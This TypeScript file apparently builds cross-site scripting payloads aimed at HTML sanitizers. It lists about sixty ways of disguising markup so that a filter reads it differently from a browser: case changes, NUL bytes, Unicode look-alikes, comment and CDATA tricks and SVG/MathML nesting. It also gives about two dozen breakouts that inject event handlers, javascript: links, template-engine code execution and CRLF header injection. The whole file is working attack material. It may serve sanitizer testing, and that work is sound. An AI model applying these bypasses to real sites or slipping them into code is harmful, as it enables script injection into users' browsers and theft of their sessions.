/** How a piece of HTML is dressed up, so that whoever filters it reads something else than a browser does. */

type Disguise = (markup: string) => string;

const around =
  (before: string, after = ""): Disguise =>
  (markup) =>
    before + markup + after;
const inTags =
  (change: (name: string) => string): Disguise =>
  (markup) =>
    markup.replace(/<(\/?)([a-z]+)/gi, (_, slash: string, name: string) => `<${slash}${change(name)}`);
const forSpaces =
  (sign: string): Disguise =>
  (markup) =>
    markup.replaceAll(" ", sign);

export const DISGUISES: Readonly<Record<string, Disguise>> = {
  plain: (markup) => markup,
  "plain again": (markup) => markup,
  capitals: inTags((name) => name.toUpperCase()),
  "mixed letters": inTags((name) =>
    Array.from(name, (letter, at) => (at % 2 === 0 ? letter.toUpperCase() : letter)).join(""),
  ),
  "handlers in capitals": (markup) => markup.replace(/ on[a-z]+/g, (name) => name.toUpperCase()),
  "slashes for spaces": forSpaces("/"),
  "line ends for spaces": forSpaces("\n"),
  "tabs for spaces": forSpaces("\t"),
  "form feeds for spaces": forSpaces("\f"),
  "no-break spaces for spaces": forSpaces("\u00a0"),
  "a NUL in the name": inTags((name) => `${name.slice(0, 2)}\0${name.slice(2)}`),
  "a sign of Unicode in the name": inTags((name) => name.replace(/s/g, "\u017f").replace(/k/gi, "\u212a")),
  "a name with a colon": inTags((name) => `x:${name}`),
  "a name that goes on": inTags((name) => `${name}-x`),
  "a quote behind the name": inTags((name) => `${name}"`),
  "a slash behind the name": inTags((name) => `${name}/`),
  "two signs in front": (markup) => markup.replace("<", "<<"),
  "a space in front of the name": (markup) => markup.replace("<", "< "),
  "an end without its sign": (markup) => markup.replace(/>[^>]*$/, ""),
  "an end within quotes": (markup) => markup.replace(/ (?=\w+=)/, ' title=">" '),
  "an open quote": (markup) => markup.replace(/ (?=\w+=)/, ' title="x '),
  "itself within itself": inTags((name) => `${name.slice(0, 3)}<${name}>${name.slice(3)}`),
  references: (markup) => markup.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  "references of references": (markup) => markup.replaceAll("<", "&amp;lt;"),
  "references by number": (markup) => markup.replaceAll("<", "&#60;"),
  "backslashes of Markdown": (markup) => markup.replaceAll("<", "\\<"),
  "UTF-7": (markup) => markup.replaceAll("<", "+ADw-").replaceAll(">", "+AD4-"),
  "wide signs": (markup) => markup.replaceAll("<", "\uff1c").replaceAll(">", "\uff1e"),
  "behind a comment that ends at once": around("<!-->"),
  "behind a comment that ends by a dash": around("<!--->"),
  "behind a comment that ends with a bang": around("<!-- x --!>"),
  "in a comment": around("<!-- ", " -->"),
  "in a comment that is open": around("<!-- "),
  "in CDATA": around("<![CDATA[", "]]>"),
  "in CDATA of SVG": around("<svg><![CDATA[", "]]></svg>"),
  "behind the end of CDATA": around("]]>"),
  "behind what holds text": around("</textarea></title></style></script></xmp></noscript>"),
  "in a title that ends": around("<title>x</title>"),
  "in a title": around("<title>", "</title>"),
  "in a textarea": around("<textarea>", "</textarea>"),
  "in a style": around("<style>", "</style>"),
  "in what is not shown": around('<noscript><p title="</noscript>', '"></noscript>'),
  "in old text": around("<xmp>", "</xmp>"),
  "in a listing": around("<listing>\n", "</listing>"),
  "in all that follows": around("<plaintext>"),
  "in what holds no frames": around("<noframes>", "</noframes>"),
  "in what embeds not": around("<noembed>", "</noembed>"),
  "in a table": around("<table>", "</table>"),
  "in a row": around("<table><tr>", "<td></table>"),
  "in a choice": around("<select>", "</select>"),
  "in SVG": around("<svg><desc>", "</desc></svg>"),
  "in a style of SVG": around("<svg><style>", "</style></svg>"),
  "in MathML": around("<math><mi>", "</mi></math>"),
  "in a style of MathML": around("<math><mtext><table><mglyph><style>", "</style></math>"),
  "in an attribute's quotes": around('<p title="', '">x</p>'),
  "in an attribute's single quotes": around("<p title='", "'>x</p>"),
  "in a link": around('<a href="a.md">', "</a>"),
  "in bold, crossed": around("<b><i>", "</b></i>"),
  "behind a blank line": around("<div>\n\n", "\n\n</div>"),
  "behind ends of everything": around("</p></div></section></article></main>"),
  "in an accent": around("`", "``"),
  "in a template of the engine": around("{% raw %}{{ '", "' }}{% endraw %}"),
  "in words that are struck": around("~~*__", "__*~~"),
};

/** What ends the attribute, the element, the comment or the line that a payload stands in. */
export const BREAKOUTS: Readonly<Record<string, (markup: string, code: string) => string>> = {
  "a quote and a tag": (markup) => `">${markup}`,
  "a single quote and a tag": (markup) => `'>${markup}`,
  "an accent and a tag": (markup) => `\`>${markup}`,
  "a quote and a handler": (_, code) => `x" onpointerover="${code}" autofocus tabindex="0" onfocus="${code}`,
  "a single quote and a handler": (_, code) => `x' onpointerover='${code}' autofocus onfocus='${code}`,
  "a space and a handler": (_, code) => `x onpointerover=${code} onclick=${code} `,
  "a reference to a quote": (_, code) => `x&quot; onclick=&quot;${code}&quot; x=&quot;`,
  "a slash and a handler": (_, code) => `x/onclick=${code}//`,
  "a line and a handler": (_, code) => `x"\nonclick="${code}`,
  "the end of a comment": (markup) => `-->${markup}<!--`,
  "the end of a title": (markup) => `</title>${markup}`,
  "the end of a script": (markup) => `</script>${markup}`,
  "the end of a heading": (markup) => `</h1></h2>${markup}`,
  "the end of a head": (markup) => `</head><body>${markup}`,
  "the end of a template": (markup) => `</template>${markup}`,
  "the end of code": (markup) => `</code></pre>${markup}`,
  "a call in a template": (_, code) =>
    `{{ cycler.constructor("${code}")() }}{{ '<script>${code}</script>' | safe }}`,
  "a statement in a template": (_, code) => `{% set x = range.constructor("${code}")() %}`,
  "a literal of JavaScript": (_, code) => `\${${code}}";${code}//`,
  "a line end and a header": (markup) => `x\r\nLink: <x>; rel=preload\r\n\r\n${markup}`,
  "braces of attributes": (_, code) => `x {onclick=${code} style=color:red href=javascript:${code} .x}`,
  "brackets of Markdown": (_, code) => `x](javascript:${code}) [y](javascript:${code} "`,
  "a definition of Markdown": (_, code) => `x\n\n[x]: javascript:${code}\n\n[x]`,
  "a mark of ours": (markup, code) => `\ufdd00\ufdd1${markup}\ufdd01\ufdd1 href="javascript:${code}"`,
};
